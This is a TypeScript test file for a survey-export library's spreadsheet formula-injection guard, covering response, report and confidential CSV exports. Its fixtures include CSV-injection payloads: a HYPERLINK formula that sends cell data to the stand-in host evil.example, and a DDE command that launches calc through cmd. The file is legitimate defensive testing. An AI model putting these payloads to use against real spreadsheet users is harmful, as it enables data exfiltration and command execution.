// The formula guard: cells a participant filled that a spreadsheet would evaluate get a `'` in
// front; plain numbers, the header and the ids never change; off, the file is CASE's to the byte.
import { describe, expect, it } from "vitest";
import {
  createConfidentialResponseFormatter,
  createReportFormatter,
  createResponseFormatter,
  csvField,
  formulaGuarded,
  type ExportReport,
  type ExportResponse,
  type ResponseExportFormat,
  type ResponseExportOptions,
} from "../src";
import { readCsv, rowsByHeader } from "./csv-reader";
import { answer, r, v } from "./survey-builders";
import { response, weeklyV1 } from "./surveys";

const ATTACKS = ['=HYPERLINK("https://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(A1:A9)", "-2+3"];
const NUMBERS = ["-5", "+3.5", "1e5", "-2.5E-3", ".5", "0"];

const options = (format: ResponseExportFormat, over: Partial<ResponseExportOptions> = {}): ResponseExportOptions => ({
  format,
  questionOptionSep: "-",
  shortKeys: false,
  extraContextColumns: ["panel"],
  includeMeta: { position: false, initTimes: false, displayedTimes: false, responsedTimes: false },
  accountColumns: false,
  now: 1_800_000_000,
  ...over,
});

/** A weekly response whose free-text "other" answer and context hold `text`. */
const answered = (id: string, text: string): ExportResponse =>
  response({
    id,
    participantId: "-p1",
    key: "weekly",
    versionId: "w1",
    arrivedAt: 1_700_000_500,
    responses: [answer("weekly.Q1", [r("mcg", [v("3", text)])]), answer("weekly.Q2", [r("scg", [v("other", text)])])],
    context: { language: "en", engineVersion: "1", session: "s", panel: text },
  });

function write(format: ResponseExportFormat, rows: ExportResponse[], over: Partial<ResponseExportOptions> = {}) {
  const f = createResponseFormatter("weekly", [weeklyV1], options(format, over));
  return f.start() + f.format(rows, false).text + f.end();
}

describe("formulaGuarded", () => {
  it.each(ATTACKS)("neutralises %j", (text) => {
    expect(formulaGuarded(text)).toBe("'" + text);
  });

  it.each(["\tx", "\r=1", "=", "-", "+", "@", "-1e5+1", "--5", "-5 ", "- 5", "-0x10", "-Infinity"])(
    "neutralises %j (OWASP's first characters; not a plain number)",
    (text) => {
      expect(formulaGuarded(text)).toBe("'" + text);
    },
  );

  it.each([...NUMBERS, "", "plain", "a=1", " =1", "'=1", "5-3"])("leaves %j as it is", (text) => {
    expect(formulaGuarded(text)).toBe(text);
  });

  it("quotes a guarded field by Go's rule afterwards", () => {
    expect(csvField("\r=x", true)).toBe('"\'\r=x"');
    expect(csvField('=HYPERLINK("a","b")', true)).toBe('"\'=HYPERLINK(""a"",""b"")"');
    expect(csvField("-5", true)).toBe("-5");
  });
});

describe("response exports", () => {
  for (const format of ["wide", "long"] as const) {
    it(`${format}: guards each attack in answers, context and version, never the header or ids`, () => {
      const rows = ATTACKS.map((text, i) => ({ ...answered(`r${i}`, text), versionId: text }));
      const records = readCsv(write(format, rows, { guardFormulas: true }));
      const plain = readCsv(write(format, rows));
      // the header is the same whether guarded or not
      expect(records[0]).toEqual(plain[0]);
      const byHeader = rowsByHeader(records);
      for (const [i, text] of ATTACKS.entries()) {
        const ofRow = byHeader.filter((row) => row["ID"] === `r${i}`);
        expect(ofRow.length).toBeGreaterThan(0);
        for (const row of ofRow) {
          expect(row["participantID"]).toBe("-p1");
          expect(row["version"]).toBe("'" + text + " (w1)");
          expect(row["panel"]).toBe("'" + text);
        }
        const answers =
          format === "wide"
            ? [ofRow[0]!["weekly.Q1-3-open"], ofRow[0]!["weekly.Q2-other"]]
            : ofRow
                .filter(
                  (row) => row["responseSlot"] === "weekly.Q1-3-open" || row["responseSlot"] === "weekly.Q2-other",
                )
                .map((row) => row["value"]);
        expect(answers).toEqual(["'" + text, "'" + text]);
        // unguarded, the same cells are the participant's text as it came (CASE's file)
        const plainRow = rowsByHeader(plain).find((row) => row["ID"] === `r${i}`)!;
        expect(plainRow["panel"]).toBe(text);
      }
    });

    it(`${format}: leaves numbers alone and writes CASE's bytes for a file without formulas`, () => {
      const rows = NUMBERS.map((text, i) => answered(`n${i}`, text));
      expect(write(format, rows, { guardFormulas: true })).toBe(write(format, rows));
    });
  }

  it("guards a context column that shares a fixed column's name: it holds the participant's value", () => {
    const row = { ...answered("r1", "x"), context: { participantID: "=1+1" } };
    const records = rowsByHeader(
      readCsv(write("wide", [row], { extraContextColumns: ["participantID"], guardFormulas: true })),
    );
    expect(records[0]!["participantID"]).toBe("'=1+1");
  });

  it("json is never guarded", () => {
    const rows = [answered("r1", "=1+1")];
    expect(write("json", rows, { guardFormulas: true })).toBe(write("json", rows));
  });
});

describe("report and confidential exports", () => {
  const report: ExportReport = {
    id: "-r1",
    key: "=key",
    participantId: "@p",
    responseId: "+resp",
    timestamp: 1_700_000_000,
    data: [
      { key: "note", value: "=HYPERLINK(1)" },
      { key: "score", value: "-5" },
    ],
  };

  it("guards the report data values only", () => {
    const f = createReportFormatter({ format: "csv", dataKeys: ["note", "score", "-k"], guardFormulas: true });
    expect(readCsv(f.start() + f.format([report], false).text)).toEqual([
      ["id", "key", "participantID", "timestamp", "responseID", "-k", "note", "score"],
      ["-r1", "=key", "@p", "2023-11-14T22:13:20Z", "+resp", "", "'=HYPERLINK(1)", "-5"],
    ]);
    const plain = createReportFormatter({ format: "csv", dataKeys: ["note", "score", "-k"] });
    expect(readCsv(plain.format([report], false).text)[0]![6]).toBe("=HYPERLINK(1)");
  });

  it("guards confidential response keys and values, not the ids", () => {
    const row = {
      id: "-e1",
      participantId: "=p",
      responses: [answer("=Q1", [v("txt", "@SUM(1)")])],
    };
    const f = createConfidentialResponseFormatter({ format: "csv", guardFormulas: true });
    expect(readCsv(f.start() + f.format([row], false).text)).toEqual([
      ["participantID", "entryID", "responseKey", "value"],
      ["=p", "-e1", "'=Q1-rg.txt", "'@SUM(1)"],
    ]);
    const plain = createConfidentialResponseFormatter({ format: "csv" });
    expect(readCsv(plain.format([row], false).text)[0]).toEqual(["=p", "-e1", "=Q1-rg.txt", "@SUM(1)"]);
  });
});
